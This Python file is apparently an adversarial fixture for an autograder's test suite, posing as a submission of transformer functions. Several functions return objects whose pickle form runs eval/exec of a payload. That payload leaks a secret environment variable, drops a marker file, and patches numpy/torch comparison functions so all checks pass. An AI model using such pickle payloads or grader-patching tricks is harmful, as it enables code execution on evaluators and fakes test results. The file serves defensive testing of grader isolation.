# attack: functions return objects whose pickle form runs code when unpickled (an object with __reduce__ -> eval/exec, a torch.Tensor subclass and an ndarray subclass with hostile __reduce__/__reduce_ex__, an object-dtype array and a list holding such objects); the payload, if ever unpickled in the trusted process, announces itself, prints the secret, and patches numpy/torch comparisons to always pass; the plain-tensor answers are wrong
# target: all
# expect: the trusted side never unpickles worker data (no HOSTILE_PICKLE_RCE_EXECUTED on stderr, no hostile_pickle_rce_* marker in the temp dir, no secret printed); every question scores 0 (failed or error)
"""Remote code execution through pickle, should the grader ever unpickle a worker's reply.

softmax, scaled_dot_product_attention, split_heads, merge_heads and layer_norm return booby-
trapped objects; causal_mask, multi_head_attention and transformer_block return plain but wrong
tensors, which would start passing if the payload's comparison patches ran in the grader.
"""

import math

import torch

# ---------------------------------------------------------------------------------------------
# A correct implementation (the same in every file of this folder). The public functions only
# delegate to private helpers, so an attack that replaces one public function below leaves the
# other questions intact.
# ---------------------------------------------------------------------------------------------


def _softmax(x, dim=-1):
    shifted = x - torch.amax(x, dim=dim, keepdim=True)
    e = torch.exp(shifted)
    return e / torch.sum(e, dim=dim, keepdim=True)


def _causal_mask(T):
    rows = torch.arange(T).unsqueeze(1)
    cols = torch.arange(T).unsqueeze(0)
    return cols > rows


def _attention(q, k, v, mask=None):
    d_k = q.shape[-1]
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(d_k)
    if mask is not None:
        scores = scores.masked_fill(mask, float("-inf"))
    weights = _softmax(scores, dim=-1)
    return torch.matmul(weights, v), weights


def _split_heads(x, n_heads):
    d_head = x.shape[-1] // n_heads
    return x.unflatten(-1, (n_heads, d_head)).transpose(-3, -2)


def _merge_heads(x):
    return x.transpose(-3, -2).flatten(-2)


def _multi_head_attention(x, params, n_heads, mask=None, context=None):
    source = x if context is None else context
    q = _split_heads(x @ params["w_q"], n_heads)
    k = _split_heads(source @ params["w_k"], n_heads)
    v = _split_heads(source @ params["w_v"], n_heads)
    out, _ = _attention(q, k, v, mask)
    return _merge_heads(out) @ params["w_o"]


def _layer_norm(x, gamma, beta, eps=1e-5):
    mean = x.mean(dim=-1, keepdim=True)
    centered = x - mean
    var = (centered * centered).mean(dim=-1, keepdim=True)
    return centered / torch.sqrt(var + eps) * gamma + beta


def _transformer_block(x, params, n_heads, mask=None):
    attn = _multi_head_attention(x, params, n_heads, mask)
    h = _layer_norm(x + attn, params["ln1_gamma"], params["ln1_beta"])
    ffn = torch.relu(h @ params["w1"] + params["b1"]) @ params["w2"] + params["b2"]
    return _layer_norm(h + ffn, params["ln2_gamma"], params["ln2_beta"])


def softmax(x, dim=-1):
    return _softmax(x, dim)


def causal_mask(T):
    return _causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    return _attention(q, k, v, mask)


def split_heads(x, n_heads):
    return _split_heads(x, n_heads)


def merge_heads(x):
    return _merge_heads(x)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask)


# ---------------------------------------------------------------------------------------------
# Deliberately WRONG answers (right shapes, still differentiable). If the cheat below worked,
# these would earn undeserved points, which makes the cheat visible.
# ---------------------------------------------------------------------------------------------


def _wrong_softmax(x, dim=-1):
    return _softmax(x, dim) * 0.0


def _wrong_causal_mask(T):
    return ~_causal_mask(T)


def _wrong_attention(q, k, v, mask=None):
    out, weights = _attention(q, k, v, mask)
    return out * 0.0, weights * 0.0


def _wrong_split_heads(x, n_heads):
    return _split_heads(x, n_heads) * 0.0


def _wrong_merge_heads(x):
    return _merge_heads(x) * 0.0


def _wrong_multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context) * 0.0


def _wrong_layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps) * 0.0


def _wrong_transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask) * 0.0


# ---------------------------------------------------------------------------------------------
# The attack
# ---------------------------------------------------------------------------------------------

import numpy as _np

_PAYLOAD = r'''
import os, sys, tempfile
try:
    sys.stderr.write("HOSTILE_PICKLE_RCE_EXECUTED pid=%d secret=%r\n"
                     % (os.getpid(), os.environ.get("AUTOGRADER_TEST_SECRET")))
    open(os.path.join(tempfile.gettempdir(), "hostile_pickle_rce_%d" % os.getpid()), "w").close()
except Exception:
    pass
def _true(*a, **k):
    return True
for _name in ("numpy", "torch"):
    _m = sys.modules.get(_name)
    if _m is not None:
        _m.allclose = _true
        try:
            _m.equal = _true
            _m.array_equal = _true
        except Exception:
            pass
_t = sys.modules.get("torch")
if _t is not None:
    _t.Tensor.allclose = _true
    try:
        _t.testing.assert_close = lambda *a, **k: None
    except Exception:
        pass
'''


def _trap(result_expression):
    return (eval, ("exec(%r) or (%s)" % (_PAYLOAD, result_expression),))


class _Booby:
    def __reduce__(self):
        return _trap("0.0")


class _BoobyTensor(torch.Tensor):
    def __reduce_ex__(self, protocol):
        return _trap("__import__('torch').zeros(%r)" % (tuple(self.shape),))

    def __reduce__(self):
        return self.__reduce_ex__(2)


class _BoobyArray(_np.ndarray):
    def __reduce__(self):
        return _trap("__import__('numpy').zeros(%r)" % (tuple(self.shape),))

    def __reduce_ex__(self, protocol):
        return self.__reduce__()


def softmax(x, dim=-1):
    return _Booby()


def causal_mask(T):
    return _wrong_causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    out, weights = _wrong_attention(q, k, v, mask)
    return out.as_subclass(_BoobyTensor), weights.as_subclass(_BoobyTensor)


def split_heads(x, n_heads):
    return _wrong_split_heads(x, n_heads).detach().cpu().numpy().view(_BoobyArray)


def merge_heads(x):
    holder = _np.empty(1, dtype=object)
    holder[0] = _Booby()
    return holder


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _wrong_multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    return [_Booby(), _wrong_layer_norm(x, gamma, beta, eps)]


def transformer_block(x, params, n_heads, mask=None):
    return _wrong_transformer_block(x, params, n_heads, mask)
